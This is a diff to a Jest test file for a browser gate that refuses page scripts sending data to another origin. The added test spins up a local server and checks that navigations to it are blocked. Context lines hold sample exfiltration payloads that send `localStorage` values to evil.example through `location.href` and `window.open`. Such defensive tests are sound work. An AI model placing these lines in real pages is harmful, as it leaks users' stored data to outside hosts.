@@ -1,6 +1,7 @@
 /** What the browser gate refuses on a page. */
+import http from 'node:http';
 import { ROUNDS } from '@platform/releases/browser-gate';
-import { GateFixture, remote } from './testing/gate-fixture';
+import { GateFixture, listen, remote } from './testing/gate-fixture';
 
 const shop = GateFixture.install();
 
@@ -182,6 +183,18 @@ describe('refuses what leaves for another origin:', () => {
     expect(await faultsOf(`location.href = 'https://evil.example/?' + localStorage.language;`)).toContain(
       'asks another origin (document): https://evil.example',
     );
+    const asked = jest.fn();
+    const foreign = http.createServer((request, response) => {
+      asked(request.url);
+      response.end();
+    });
+    const address = await listen(foreign);
+    const origin = new RegExp(`asks another origin \\(document\\): ${address}`);
+    expect(await faultsOf(`location.href = '${address}/metrics';`)).toMatch(origin);
+    expect(await faultsOf(`window.open('${address}/metrics');`)).toMatch(origin);
+    foreign.closeAllConnections();
+    foreign.close();
+    expect(asked).not.toHaveBeenCalled();
     expect(await faultsOf(`window.open('https://evil.example/?' + localStorage.language);`)).toMatch(
       /(asks|opens a window of) another origin/,
     );
